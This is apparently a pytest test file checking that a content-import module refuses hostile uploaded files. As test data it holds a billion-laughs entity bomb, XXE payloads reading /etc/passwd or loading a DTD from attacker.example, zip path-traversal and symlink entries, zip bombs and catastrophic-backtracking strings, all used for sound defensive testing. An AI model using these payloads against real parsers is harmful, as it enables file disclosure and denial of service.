"""Files from strangers: nothing of this machine is read, filled or waited for."""

import io
import time
import zipfile
from collections.abc import Callable
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.content.interchange import gift, importing, package, safe_xml
from app.content.interchange.markdown_text import from_html
from app.content.interchange.values import CannotTakeError, FileRefusedError, Refusal
from tests.unit.interchange_files import ITEM_2, manifest, quiz, zipped

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE quiz [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><quiz>&j;</quiz>"
)


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (BILLION_LAUGHS, "DOCTYPE"),
        ('<!DOCTYPE quiz SYSTEM "http://attacker.example/x.dtd"><quiz/>', "DOCTYPE"),
        ('<!DOCTYPE q [<!ENTITY x SYSTEM "file:///etc/passwd">]><quiz>&x;</quiz>', "DOCTYPE"),
        ('<!DOCTYPE q [<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;]><quiz/>', "DOCTYPE"),
        ("<quiz>&unknown;</quiz>", "not XML"),
        ("<quiz><question></quiz>", "not XML"),
        ("<quiz/><quiz/>", "not XML"),
        ("", "not XML"),
        ('<?xml version="1.0" encoding="none-such"?><quiz/>', "not XML|encoding"),
        ("<a>" * 101, "nested more than 100 deep"),
    ],
)
def test_xml_that_is_not_safe_is_refused(document: str, message: str) -> None:
    with pytest.raises(FileRefusedError, match=message) as refusal:
        safe_xml.parse(document.encode())
    assert refusal.value.line is not None


@pytest.mark.parametrize(
    ("limit", "message"), [("MAX_BYTES", "MiB; split it"), ("MAX_ELEMENTS", "more than 10 elements")]
)
def test_xml_that_is_too_large_is_refused(monkeypatch: pytest.MonkeyPatch, limit: str, message: str) -> None:
    monkeypatch.setattr(safe_xml, limit, 10)
    with pytest.raises(FileRefusedError, match=message):
        safe_xml.parse(b"<quiz>%s</quiz>" % (b"<a/>" * 11))


def test_elements_have_their_lines() -> None:
    root = safe_xml.parse(b"<quiz>\n\n <a x='1'/>\n <b xmlns='u:v' xml:lang='en'>text</b></quiz>")
    assert [(one.name, one.line, one.space) for one in root.elements()] == [("a", 3, ""), ("b", 4, "u:v")]
    assert root.elements()[1].attributes == {"xml:lang": "en"}


def raw_zip(change: Callable[[zipfile.ZipFile], None]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        change(made)
    return out.getvalue()


def link(made: zipfile.ZipFile) -> None:
    info = zipfile.ZipInfo("items/a.xml")
    info.external_attr = 0o120777 << 16
    made.writestr(info, "/etc/passwd")


GOOD = zipped({"imsmanifest.xml": manifest("a.xml"), "a.xml": ITEM_2.encode()})


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (zipped({"../a.xml": b""}), "leads out"),
        (zipped({"/etc/a.xml": b""}), "leads out"),
        (zipped({"a/./b.xml": b""}), "leads out"),
        (zipped({"C:a.xml": b""}), "leads out"),
        (raw_zip(link), "is a link"),
        (zipped({"a.xml": b"", "A.XML": b""}), "is there twice"),
        (zipped({"a.xml": b"\0" * 10_000_000}), "times its size, as in a zip bomb"),
        (zipped({"a.xml": b"x" * (33 * 1024 * 1024)}), "more than 32 MiB"),
        (zipped({f"{n}.xml": b"" for n in range(5_001)}), "more than 5000 files"),
        (GOOD[:-30], "not a zip"),
        (GOOD.replace(b"imsmanifest.xml", b"imsmanifest.xm\0"), "leads out|not a zip|no imsmanifest"),
        (b"PK\x03\x04", "not a zip"),
    ],
)
def test_a_zip_that_is_not_safe_is_refused(data: bytes, message: str) -> None:
    with pytest.raises(FileRefusedError, match=message):
        importing.read("p.zip", data)


def test_a_zip_that_unpacks_to_too_much_in_all_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(package, "MAX_TOTAL", 1_000)
    with pytest.raises(FileRefusedError, match="unpacks to more than"):
        package.Package(GOOD)


def test_a_zip_that_lists_too_much_is_refused_before_its_list_is_read() -> None:
    end = GOOD.rfind(b"PK\x05\x06")
    claimed = GOOD[: end + 12] + (5 * 1024 * 1024).to_bytes(4, "little") + GOOD[end + 16 :]
    with pytest.raises(FileRefusedError, match="lists too many"):
        package.Package(claimed)
    with pytest.raises(FileRefusedError, match="lists too many"):
        package.Package(GOOD[:end] + b"PK\x06\x07" + b"\0" * 16 + GOOD[end:])


def test_files_that_overlap_are_refused() -> None:
    """As in the bombs that name one compressed block many times over."""
    with zipfile.ZipFile(io.BytesIO(GOOD)) as opened:
        first = opened.infolist()[0]
    start = GOOD.find(b"PK\x01\x02")
    size = len(first.filename) + 46
    entry = GOOD[start : start + size]
    copies = b"".join(entry.replace(b"imsmanifest", f"imsmanif{n:03}".encode()) for n in range(40))
    end = GOOD.rfind(b"PK\x05\x06")
    listed = int.from_bytes(GOOD[end + 12 : end + 16], "little") + len(copies)
    count = (42).to_bytes(2, "little")
    tail = GOOD[end : end + 8] + count + count + listed.to_bytes(4, "little") + GOOD[end + 16 :]
    with pytest.raises(FileRefusedError, match="overlap"):
        package.Package(GOOD[:end] + copies + tail)


def test_a_damaged_file_of_a_package_is_refused_by_name() -> None:
    place = GOOD.rfind(b"PK\x03\x04") + 30 + len("a.xml")
    damaged = GOOD[:place] + bytes(255 - byte for byte in GOOD[place : place + 20]) + GOOD[place + 20 :]
    [refusal] = importing.read("p.zip", damaged)
    assert refusal.path == "p.zip/a.xml"
    assert isinstance(refusal, Refusal)
    assert "make the package anew" in refusal.reason


@pytest.mark.parametrize(
    "html",
    ["<!" * 9_000, "<a " * 6_000, "<" * 20_000, "[" * 9_000, "![" * 4_000, "**a" * 2_000, "&" * 9_000, "<x>" * 6_000],
    ids=lambda html: html[:3],
)
def test_no_text_takes_long(html: str) -> None:
    began = time.perf_counter()
    with suppress(CannotTakeError):
        from_html(html)
    assert time.perf_counter() - began < 5  # these took minutes before they were bounded


@given(st.binary(max_size=200), st.sampled_from([GOOD, quiz(), ITEM_2.encode(), b"::Q::T?{T}"]), st.integers(0, 2_000))
def test_no_bytes_do_anything_but_be_taken_or_refused(junk: bytes, good: bytes, place: int) -> None:
    for data in (junk, good[:place] + junk + good[place + len(junk) :]):
        for kind in (None, *importing.FORMATS):
            with suppress(FileRefusedError):
                outcome = importing.settle(importing.read("f", data, kind), objective="safety", unit="nm")
                assert len(outcome.entries) + len(outcome.refused) > 0


@pytest.mark.parametrize("text", ["{" * 400_000, "a{" * 200_000, "\\{" * 200_000])
def test_braces_that_never_close_are_no_gift_and_take_no_time(text: str) -> None:
    began = time.perf_counter()
    assert not gift.looks_like(text)
    assert time.perf_counter() - began < 5  # each brace was once tried against the whole rest
